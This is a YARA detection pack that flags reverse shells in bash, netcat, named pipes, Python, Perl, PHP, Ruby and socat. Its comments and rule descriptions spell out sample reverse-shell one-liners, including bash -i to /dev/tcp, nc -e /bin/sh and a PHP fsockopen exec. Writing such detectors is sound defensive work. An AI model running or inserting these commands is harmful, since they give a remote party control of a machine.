/*
 * Warden YARA pack: reverse shells.
 *
 * Every rule here becomes the Warden check `yara.reverse_shells.<rule name>` and is run over the
 * raw bytes of every scanned file (Python, shell, notebooks, JSON, text). Metadata the engine reads:
 *   title       = "one line"                      what was found
 *   description = "why it matters"                and what to do instead
 *   severity    = "low" | "medium" | "high" | "critical"
 *   confidence  = "low" | "medium" | "high"       how sure a match is the real thing
 *   cwe         = 506  (an integer, or a string of several: "78, 94")
 *   reference   = "url"                           optional
 * Tags on the rule header (`rule x : shell network`) become Warden tags.
 *
 * A finding is reported once per rule and file, on the line of the earliest string match.
 * Plain YARA 4.2: no modules, no external variables. Precision over recall: each rule needs a
 * connection AND a shell wired to it, not just one of the two.
 */

rule bash_dev_tcp : shell network reverse_shell
{
    meta:
        title = "Interactive shell redirected to a /dev/tcp or /dev/udp connection"
        description = "Bash opens /dev/tcp/HOST/PORT as a network connection; an interactive shell whose input and output are redirected to it is a reverse shell that hands a remote host control of this machine. Nothing a model needs to load does this: remove it."
        severity = "critical"
        confidence = "high"
        cwe = 506
        reference = "https://cwe.mitre.org/data/definitions/506.html"

    strings:
        // bash -i >& /dev/tcp/10.0.0.1/4242 0>&1   |   sh -i 5<> /dev/tcp/h/p ...
        $interactive = /\b(ba|z|k|da)?sh\s+-i\s*[0-9]?\s*[<>]{1,2}&?\s*\/dev\/(tcp|udp)\/[A-Za-z0-9_.${}\-]{1,100}\/[A-Za-z0-9_${}]{1,20}/
        // anything >& /dev/tcp/h/p 0>&1 (stdin wired to the same socket)
        $stdin_to_socket = /\/dev\/(tcp|udp)\/[A-Za-z0-9_.${}\-]{1,100}\/[A-Za-z0-9_${}]{1,20}\s*0\s*(>&|<&)\s*1/
        // exec 5<>/dev/tcp/h/p; cat <&5 | while read line; do $line 2>&5 >&5; done   |   ...; sh <&5 >&5 2>&5
        $exec_fd = /exec\s+[0-9]{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9_.${}\-]{1,100}\/[A-Za-z0-9_${}]{1,20}[^\n]{0,200}(while\s+read|<&\s*[0-9]{1,3}\s*\|\s*(\/bin\/)?(ba|z|k|da)?sh\b|\b(ba|z|k|da)?sh\s+(-i\s+)?<&\s*[0-9]{1,3}\s*>&\s*[0-9])/

    condition:
        any of them
}

rule netcat_exec : shell network reverse_shell
{
    meta:
        title = "netcat or ncat started with a program to run for the remote side (-e, -c, --exec)"
        description = "nc -e /bin/sh HOST PORT (or ncat --exec, nc -c) connects out and hands the remote side a shell. It has no place in model code: remove it."
        severity = "critical"
        confidence = "high"
        cwe = 506

    strings:
        $e_shell = /\b(nc|ncat|netcat|nc\.traditional)\s+[^\n|;&]{0,120}-(e|c)\s*\\?["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
        $exec_opt = /\b(nc|ncat|netcat)\s+[^\n|;&]{0,120}--(exec|sh-exec|lua-exec)[\s=]+\\?["']?(\/usr)?(\/bin\/)?(ba|z|k|da|power)?sh\b/
        $telnet_pair = /\btelnet\s+\S{1,100}\s+[0-9]{1,5}\s*\|\s*(\/bin\/)?(ba|z|k|da)?sh\b[^\n]{0,40}\|\s*telnet\s/

    condition:
        any of them
}

rule fifo_shell : shell network reverse_shell
{
    meta:
        title = "Named pipe wiring a shell to netcat, openssl or telnet"
        description = "mkfifo (or mknod p) plus a shell reading the pipe and piping into nc/openssl s_client/telnet is the reverse shell for a netcat without -e. Remove it."
        severity = "critical"
        confidence = "high"
        cwe = 506

    strings:
        $mkfifo = /\b(mkfifo\s+\S{1,100}|mknod\s+\S{1,100}\s+p)\s*[;&|\n][^\n]{0,200}\b(ba|z|k|da)?sh\b[^\n]{0,100}\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\s/

    condition:
        $mkfifo
}

rule python_socket_shell : python network reverse_shell
{
    meta:
        title = "Python socket connected out, duplicated onto stdin/stdout and handed to a shell"
        description = "A socket that connects to a host, whose file descriptor becomes the standard input and output (os.dup2 or stdin=s.fileno()) of /bin/sh or pty.spawn, is a reverse shell. Remove it."
        severity = "critical"
        confidence = "high"
        cwe = 506

    strings:
        $socket = /socket\.(socket|create_connection)\s*\(/
        $connect = /\.connect(_ex)?\s*\(\s*\(\s*[A-Za-z0-9_"'\\]/
        $create_conn = /socket\.create_connection\s*\(\s*\(/
        $dup2 = /dup2\s*\(\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\(\)\s*,\s*[012]\s*\)/
        $std_fd = /stdin\s*=\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\(\)\s*,\s*stdout\s*=\s*[A-Za-z_][A-Za-z0-9_.]{0,40}\.fileno\(\)/
        $pty = /pty\.spawn\s*\(\s*\\?["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh\\?["']/
        $sh_list = /\[\s*\\?["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh\\?["']\s*,\s*\\?["']-i\\?["']\s*\]/
        $sh_call = /(subprocess\.(call|Popen|run|check_call)|os\.(system|popen|execl|execv|execlp|execvp))\s*\(\s*\[?\s*\\?["'](\/usr)?\/bin\/(ba|z|k|da)?sh["'\s\\]/

    condition:
        ($socket and $connect or $create_conn) and ($dup2 or $std_fd) and ($pty or $sh_list or $sh_call)
}

rule perl_socket_shell : perl network reverse_shell
{
    meta:
        title = "Perl socket whose handle becomes STDIN/STDOUT of a shell"
        description = "perl -e 'use Socket; socket(S,PF_INET,...); connect(...); open(STDIN,\">&S\"); ... exec(\"/bin/sh -i\")' and the IO::Socket::INET variant are reverse shells. Remove them."
        severity = "critical"
        confidence = "high"
        cwe = 506

    strings:
        $socket = /socket\s*\(\s*[A-Za-z_$][A-Za-z0-9_]{0,20}\s*,\s*PF_INET/
        $io_socket = /IO::Socket::INET\s*(->new)?\s*\(\s*PeerAddr/
        $open_stdin = /open\s*\(\s*STDIN\s*,\s*\\?["']>&/
        $fdopen = /STDIN->fdopen\s*\(\s*\$[A-Za-z_][A-Za-z0-9_]{0,20}\s*,\s*\\?["']?r/
        $exec_sh = /(exec|system)\s*\(?\s*\\?["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh(\s+-i)?\\?["']/
        $system_loop = /system\s*\$_\s+while\s*<>/

    condition:
        ($socket or $io_socket) and ($open_stdin or $fdopen) and ($exec_sh or $system_loop)
}

rule php_socket_shell : php network reverse_shell
{
    meta:
        title = "PHP fsockopen connection handed to a shell"
        description = "php -r '$sock=fsockopen(HOST,PORT);exec(\"/bin/sh -i <&3 >&3 2>&3\");' (or proc_open with the socket as its pipes) is a reverse shell. Remove it."
        severity = "critical"
        confidence = "high"
        cwe = 506

    strings:
        $fsock = /fsockopen\s*\(\s*["'$\\]/
        $exec_sh = /(exec|shell_exec|system|passthru|popen)\s*\(\s*\\?["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh\s+-i\s*<&\s*[0-9]/
        $proc_open = /proc_open\s*\(\s*\\?["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh[^\n]{0,60}array\s*\(\s*0\s*=>\s*\$/

    condition:
        $fsock and ($exec_sh or $proc_open)
}

rule ruby_socket_shell : ruby network reverse_shell
{
    meta:
        title = "Ruby TCPSocket handed to a shell or to a command loop"
        description = "ruby -rsocket -e 'f=TCPSocket.open(HOST,PORT).to_i; exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)' and the gets/IO.popen loop are reverse shells. Remove them."
        severity = "critical"
        confidence = "high"
        cwe = 506

    strings:
        $tcp = /TCPSocket\.(open|new)\s*\(\s*["'A-Za-z0-9_\\]/
        $sprintf_fd = /sh\s+-i\s*<&%d\s*>&%d/
        $gets_loop = /while\s*\(?\s*[A-Za-z_][A-Za-z0-9_]{0,20}\s*=\s*[A-Za-z_][A-Za-z0-9_]{0,20}\.gets\s*\)?\s*;?\s*IO\.popen\s*\(/

    condition:
        $tcp and ($sprintf_fd or $gets_loop)
}

rule socat_shell : shell network reverse_shell
{
    meta:
        title = "socat joining a TCP or TLS connection to a shell (exec:/system:)"
        description = "socat TCP:HOST:PORT EXEC:/bin/sh (either order, connect or listen) gives the other end a shell, often with a full pty. Remove it."
        severity = "critical"
        confidence = "high"
        cwe = 506

    strings:
        $net_then_exec = /\bsocat\s+(-[A-Za-z0-9,]{1,20}\s+){0,4}\\?["']?(tcp|tcp4|tcp6|ssl|openssl|udp)(-connect|-listen)?:[^\s]{1,200}\\?["']?\s+\\?["']?(exec|system):\\?["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ nocase
        $exec_then_net = /\bsocat\s+(-[A-Za-z0-9,]{1,20}\s+){0,4}\\?["']?(exec|system):\\?["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b[^\n]{0,120}\s\\?["']?(tcp|tcp4|tcp6|ssl|openssl|udp)(-connect|-listen)?:/ nocase

    condition:
        any of them
}
